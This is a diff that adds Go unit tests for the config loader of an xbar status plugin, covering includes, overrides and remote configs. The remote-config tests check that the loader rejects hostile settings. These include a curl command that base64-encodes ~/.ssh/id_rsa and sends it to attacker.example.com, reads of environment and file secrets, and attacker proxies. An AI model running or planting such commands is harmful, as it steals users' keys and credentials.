@@ -0,0 +1,419 @@
+package service
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"sync"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/sprak3000/xbar-whats-up/configuration"
+	"github.com/sprak3000/xbar-whats-up/fetch"
+)
+
+func TestUnit_LocalFilename(t *testing.T) {
+	require.Equal(t, "/home/me/.whats-up.local.json", LocalFilename("/home/me/.whats-up.json"))
+	require.Equal(t, "/home/me/.config/whats-up/config.local.json", LocalFilename("/home/me/.config/whats-up/config.json"))
+}
+
+func TestUnit_ResolveConfig(t *testing.T) {
+	tests := map[string]struct {
+		files            mapReader
+		expectedDocument map[string]interface{}
+		expectedSources  map[string][]string
+		expectedErrCode  string
+	}{
+		"base path- no includes": {
+			files: mapReader{
+				"/cfg/config.json": `{"Slack":{"url":"https://status.slack.com","type":"slack"}}`,
+			},
+			expectedDocument: map[string]interface{}{
+				"version": json.Number("2"),
+				"sites": map[string]interface{}{
+					"Slack": map[string]interface{}{"url": "https://status.slack.com", "type": "slack"},
+				},
+			},
+			expectedSources: map[string][]string{"sites.Slack": {"/cfg/config.json"}},
+		},
+		"base path- personal file overrides and removes team sites": {
+			files: mapReader{
+				"/cfg/team.json":   `{"http":{"interval":"5m"},"Slack":{"url":"https://status.slack.com","type":"slack","group":"Chat"},"Jira":{"url":"https://jira-software.status.atlassian.com","type":"statuspage.io"}}`,
+				"/cfg/config.json": `{"include":"team.json","Slack":{"group":"Team chat"},"Jira":null}`,
+			},
+			expectedDocument: map[string]interface{}{
+				"version":  json.Number("2"),
+				"settings": map[string]interface{}{"http": map[string]interface{}{"interval": "5m"}},
+				"sites": map[string]interface{}{
+					"Slack": map[string]interface{}{"url": "https://status.slack.com", "type": "slack", "group": "Team chat"},
+				},
+			},
+			expectedSources: map[string][]string{
+				"settings.http": {"/cfg/team.json"},
+				"sites.Slack":   {"/cfg/team.json", "/cfg/config.json"},
+				"sites.Jira":    {"/cfg/team.json", "/cfg/config.json (removed)"},
+			},
+		},
+		"base path- versioned and unversioned files are merged": {
+			files: mapReader{
+				"/cfg/team.json":   `{"display":{"font":"Monaco"},"Slack":{"url":"https://status.slack.com","type":"slack"}}`,
+				"/cfg/config.json": `{"$schema":"whats-up.schema.json","version":2,"include":"team.json","settings":{"display":{"size":12}},"sites":{"Slack":{"group":"chat"}}}`,
+			},
+			expectedDocument: map[string]interface{}{
+				"version":  json.Number("2"),
+				"settings": map[string]interface{}{"display": map[string]interface{}{"font": "Monaco", "size": json.Number("12")}},
+				"sites": map[string]interface{}{
+					"Slack": map[string]interface{}{"url": "https://status.slack.com", "type": "slack", "group": "chat"},
+				},
+			},
+			expectedSources: map[string][]string{
+				"settings.display": {"/cfg/team.json", "/cfg/config.json"},
+				"sites.Slack":      {"/cfg/team.json", "/cfg/config.json"},
+			},
+		},
+		"base path- local overrides are applied last": {
+			files: mapReader{
+				"/cfg/config.json":       `{"display":{"title":"icon","font":"Monaco"}}`,
+				"/cfg/config.local.json": `{"display":{"font":"Menlo"}}`,
+			},
+			expectedDocument: map[string]interface{}{
+				"version":  json.Number("2"),
+				"settings": map[string]interface{}{"display": map[string]interface{}{"title": "icon", "font": "Menlo"}},
+			},
+			expectedSources: map[string][]string{"settings.display": {"/cfg/config.json", "/cfg/config.local.json"}},
+		},
+		"base path- nested includes are applied in order": {
+			files: mapReader{
+				"/cfg/org.json":    `{"display":{"font":"Monaco"}}`,
+				"/cfg/team.json":   `{"include":["org.json"],"display":{"font":"Menlo"}}`,
+				"/cfg/config.json": `{"include":["team.json"]}`,
+			},
+			expectedDocument: map[string]interface{}{
+				"version":  json.Number("2"),
+				"settings": map[string]interface{}{"display": map[string]interface{}{"font": "Menlo"}},
+			},
+			expectedSources: map[string][]string{"settings.display": {"/cfg/org.json", "/cfg/team.json"}},
+		},
+		"exceptional path- missing include": {
+			files: mapReader{
+				"/cfg/config.json": `{"include":"team.json"}`,
+			},
+			expectedErrCode: ErrorInvalidInclude,
+		},
+		"exceptional path- include cycle": {
+			files: mapReader{
+				"/cfg/team.json":   `{"include":"config.json"}`,
+				"/cfg/config.json": `{"include":"team.json"}`,
+			},
+			expectedErrCode: ErrorInvalidInclude,
+		},
+		"exceptional path- include is a URL": {
+			files: mapReader{
+				"https://intranet.example.com/whats-up.json": `{"Slack":{"url":"https://status.slack.com","type":"slack"}}`,
+				"/cfg/config.json":                           `{"include":"https://intranet.example.com/whats-up.json"}`,
+			},
+			expectedErrCode: ErrorInvalidInclude,
+		},
+		"exceptional path- include is not a path": {
+			files: mapReader{
+				"/cfg/config.json": `{"include":5}`,
+			},
+			expectedErrCode: ErrorUnableToParseConfiguration,
+		},
+		"exceptional path- included file is for a newer plugin": {
+			files: mapReader{
+				"/cfg/team.json":   `{"version":3,"sites":{}}`,
+				"/cfg/config.json": `{"include":"team.json"}`,
+			},
+			expectedErrCode: ErrorUnsupportedConfigurationVersion,
+		},
+		"exceptional path- included file is invalid": {
+			files: mapReader{
+				"/cfg/team.json":   `{`,
+				"/cfg/config.json": `{"include":"team.json"}`,
+			},
+			expectedErrCode: ErrorUnableToParseConfiguration,
+		},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			r, err := ResolveConfig(tc.files, "/cfg/config.json")
+			if tc.expectedErrCode != "" {
+				require.Error(t, err)
+				require.Equal(t, tc.expectedErrCode, err.Code())
+				return
+			}
+
+			require.NoError(t, err)
+			require.Equal(t, tc.expectedDocument, r.Document)
+			require.Equal(t, tc.expectedSources, r.Sources)
+		})
+	}
+}
+
+func TestUnit_ResolveConfig_Glob(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "teams"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "teams", "b.json"), []byte(`{"display":{"font":"Menlo"}}`), 0600))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "teams", "a.json"), []byte(`{"display":{"font":"Monaco","size":12}}`), 0600))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "config.json"), []byte(`{"include":"teams/*.json"}`), 0600))
+
+	r, err := ResolveConfig(configuration.FileReader{}, filepath.Join(dir, "config.json"))
+	require.NoError(t, err)
+	require.Equal(t, map[string]interface{}{"display": map[string]interface{}{"font": "Menlo", "size": json.Number("12")}}, r.Document["settings"])
+
+	c, err := LoadConfig(configuration.FileReader{}, nil, filepath.Join(dir, "config.json"))
+	require.NoError(t, err)
+	require.Equal(t, "Menlo", c.Display.Font)
+	require.Equal(t, 12, c.Display.Size)
+}
+
+func TestUnit_LoadConfig_Remote(t *testing.T) {
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"Slack":{"url":"https://status.slack.com/api/v2.0.0/current","type":"slack","group":"chat"},"Jira":{"url":"https://jira-software.status.atlassian.com/api/v2/status.json","type":"statuspage.io"}}`))
+	}))
+	defer srv.Close()
+
+	r := &fetch.RemoteReader{
+		Local: mapReader{
+			"/cfg/config.json": `{"remote":{"url":"` + srv.URL + `"},"Slack":{"group":"team"},"Jira":null}`,
+		},
+		Client: fetch.NewClient(srv.Client()),
+	}
+
+	c, err := LoadConfig(r, nil, "/cfg/config.json")
+	require.NoError(t, err)
+	require.Len(t, c.Sites, 1)
+	require.Equal(t, "team", c.Sites["Slack"].Group)
+	require.Equal(t, "slack", c.Sites["Slack"].Type)
+
+	// Only the remote entry can point at a URL
+	r.Local = mapReader{"/cfg/config.json": `{"remote":{"url":"` + srv.URL + `"},"include":"https://intranet.example.com/whats-up.json"}`}
+	_, err = LoadConfig(r, nil, "/cfg/config.json")
+	require.Error(t, err)
+	require.Equal(t, ErrorInvalidInclude, err.Code())
+
+	// Without the remote reader, the remote entry is not mistaken for a site
+	c, err = LoadConfig(mapReader{"/cfg/config.json": `{"remote":{"url":"` + srv.URL + `"}}`}, nil, "/cfg/config.json")
+	require.NoError(t, err)
+	require.Empty(t, c.Sites)
+}
+
+func TestUnit_LoadConfig_Remote_Untrusted(t *testing.T) {
+	tests := map[string]struct {
+		remote          string
+		expectedErrCode string
+	}{
+		"base path- inline headers": {
+			remote: `{"http":{"headers":{"X-Team":"platform"},"interval":"5m"},"Jira":{"url":"https://jira-software.status.atlassian.com/api/v2/status.json","type":"statuspage.io","headers":{"Accept":"application/json"}}}`,
+		},
+		"exceptional path- env secret in the HTTP settings": {
+			remote:          `{"http":{"headers":{"X-Leak":{"env":"AWS_SECRET_ACCESS_KEY"}}},"Leak":{"url":"https://status.attacker.example.com","type":"statuspage.io"}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- command secret": {
+			remote:          `{"http":{"auth":{"type":"bearer","token":{"command":"curl https://attacker.example.com/$(cat ~/.ssh/id_rsa | base64)"}}}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- file secret": {
+			remote:          `{"http":{"headers":{"X-Token":{"file":"~/.aws/credentials"}}}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- site header secret": {
+			remote:          `{"Jira":{"url":"https://status.attacker.example.com","type":"statuspage.io","headers":{"X-Token":{"env":"GITHUB_TOKEN"}}}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- site auth": {
+			remote:          `{"sites":{"Jira":{"url":"https://status.attacker.example.com","type":"statuspage.io","auth":{"type":"basic","username":"me","password":{"env":"JIRA_PASSWORD"}}}},"version":2}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- proxy": {
+			remote:          `{"http":{"proxy":"http://proxy.attacker.example.com:3128"}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- TLS settings": {
+			remote:          `{"http":{"tls":{"client_cert":"~/.ssh/client.pem","client_key":"~/.ssh/client.key"}}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- site proxy": {
+			remote:          `{"Jira":{"url":"https://jira-software.status.atlassian.com/api/v2/status.json","type":"statuspage.io","proxy":"http://proxy.attacker.example.com:3128"}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- site TLS settings": {
+			remote:          `{"Jira":{"url":"https://status.attacker.example.com","type":"statuspage.io","tls":{"insecure_skip_verify":true}}}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+		"exceptional path- includes": {
+			remote:          `{"include":"/etc/whats-up.json"}`,
+			expectedErrCode: ErrorUntrustedRemoteSetting,
+		},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Content-Type", "application/json")
+				_, _ = w.Write([]byte(tc.remote))
+			}))
+			defer srv.Close()
+
+			r := &fetch.RemoteReader{
+				Local:  mapReader{"/cfg/config.json": `{"remote":{"url":"` + srv.URL + `"}}`},
+				Client: fetch.NewClient(srv.Client()),
+			}
+
+			_, err := LoadConfig(r, nil, "/cfg/config.json")
+			if tc.expectedErrCode != "" {
+				require.Error(t, err)
+				require.Equal(t, tc.expectedErrCode, err.Code())
+				return
+			}
+			require.NoError(t, err)
+		})
+	}
+}
+
+func TestUnit_LoadConfig_Remote_LocalCredentials(t *testing.T) {
+	t.Setenv("WHATSUP_TEST_TOKEN", "s3cret")
+
+	var mu sync.Mutex
+	received := map[string]http.Header{}
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/config", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"Remote":{"url":"https://` + r.Host + `/remote/api/v2/status.json","type":"statuspage.io"}}`))
+	})
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		received[r.URL.Path] = r.Header.Clone()
+		mu.Unlock()
+
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"page":{"name":"Status"},"status":{"indicator":"none","description":"All Systems Operational"}}`))
+	})
+	srv := httptest.NewTLSServer(mux)
+	defer srv.Close()
+
+	r := &fetch.RemoteReader{
+		Local: mapReader{
+			"/cfg/config.json": `{"remote":{"url":"` + srv.URL + `/config"},` +
+				`"http":{"headers":{"X-Local":{"env":"WHATSUP_TEST_TOKEN"}},"auth":{"type":"bearer","token":{"env":"WHATSUP_TEST_TOKEN"}}},` +
+				`"Local":{"url":"` + srv.URL + `/local/api/v2/status.json","type":"statuspage.io"}}`,
+		},
+		Client: fetch.NewClient(srv.Client()),
+	}
+
+	c, err := LoadConfig(r, nil, "/cfg/config.json")
+	require.NoError(t, err)
+
+	o := c.Sites.GetOverview(fetch.NewClient(srv.Client()).WithOptions(c.HTTP))
+	require.Empty(t, o.Errors)
+
+	require.Equal(t, "Bearer s3cret", received["/local/api/v2/status.json"].Get("Authorization"))
+	require.Equal(t, "s3cret", received["/local/api/v2/status.json"].Get("X-Local"))
+
+	require.Contains(t, received, "/remote/api/v2/status.json")
+	require.Empty(t, received["/remote/api/v2/status.json"].Get("Authorization"))
+	require.Empty(t, received["/remote/api/v2/status.json"].Get("X-Local"))
+}
+
+func TestUnit_LoadConfig_Remote_Variables(t *testing.T) {
+	t.Setenv("WHATSUP_TEST_REGION", "eu")
+	t.Setenv("WHATSUP_TEST_TOKEN", "s3cret")
+
+	tests := map[string]struct {
+		remote          string
+		local           string
+		expectedURLs    map[string]string
+		expectedErrCode string
+	}{
+		"base path- remote sites only see defaults": {
+			remote:       `{"API":{"url":"https://${WHATSUP_TEST_REGION:-us}.example.com/api/v2/status.json","type":"statuspage.io"}}`,
+			expectedURLs: map[string]string{"API": "https://us.example.com/api/v2/status.json"},
+		},
+		"base path- remote sites keep their for_each variables": {
+			remote:       `{"API ${region}":{"url":"https://${region}.example.com/api/v2/status.json","type":"statuspage.io","for_each":{"region":["us","ap"]}}}`,
+			expectedURLs: map[string]string{"API us": "https://us.example.com/api/v2/status.json", "API ap": "https://ap.example.com/api/v2/status.json"},
+		},
+		"base path- local sites see the environment": {
+			remote:       `{}`,
+			local:        `,"API":{"url":"https://${WHATSUP_TEST_REGION:-us}.example.com/api/v2/status.json","type":"statuspage.io"}`,
+			expectedURLs: map[string]string{"API": "https://eu.example.com/api/v2/status.json"},
+		},
+		"exceptional path- remote site copying the environment into its URL": {
+			remote:          `{"API":{"url":"https://attacker.example.com/?token=${WHATSUP_TEST_TOKEN}","type":"statuspage.io"}}`,
+			expectedErrCode: ErrorUnresolvedVariable,
+		},
+		"exceptional path- remote site changed locally": {
+			remote:          `{"API":{"url":"https://attacker.example.com/?token=${WHATSUP_TEST_TOKEN}","type":"statuspage.io"}}`,
+			local:           `,"API":{"group":"api"}`,
+			expectedErrCode: ErrorUnresolvedVariable,
+		},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Content-Type", "application/json")
+				_, _ = w.Write([]byte(tc.remote))
+			}))
+			defer srv.Close()
+
+			r := &fetch.RemoteReader{
+				Local:  mapReader{"/cfg/config.json": `{"remote":{"url":"` + srv.URL + `"}` + tc.local + `}`},
+				Client: fetch.NewClient(srv.Client()),
+			}
+
+			c, err := LoadConfig(r, nil, "/cfg/config.json")
+			if tc.expectedErrCode != "" {
+				require.Error(t, err)
+				require.Equal(t, tc.expectedErrCode, err.Code())
+				return
+			}
+			require.NoError(t, err)
+
+			urls := map[string]string{}
+			for name, site := range c.Sites {
+				urls[name] = site.URL.String()
+			}
+			require.Equal(t, tc.expectedURLs, urls)
+		})
+	}
+}
+
+func TestUnit_Resolved_Write(t *testing.T) {
+	r := Resolved{
+		Document: map[string]interface{}{"Slack": map[string]interface{}{"type": "slack"}},
+		Sources:  map[string][]string{"Slack": {"team.json", "config.json"}, "Jira": {"team.json", "config.json (removed)"}},
+	}
+
+	var b bytes.Buffer
+	require.NoError(t, r.Write(&b))
+	require.Equal(t, `{
+  "Slack": {
+    "type": "slack"
+  }
+}
+
+Sources:
+  Jira   team.json > config.json (removed)
+  Slack  team.json > config.json
+`, b.String())
+}
+
+// mapReader serves configuration files from memory
+type mapReader map[string]string
+
+func (m mapReader) ReadFile(filename string) ([]byte, error) {
+	data, ok := m[filename]
+	if !ok {
+		return nil, errors.New("file not found")
+	}
+
+	return []byte(data), nil
+}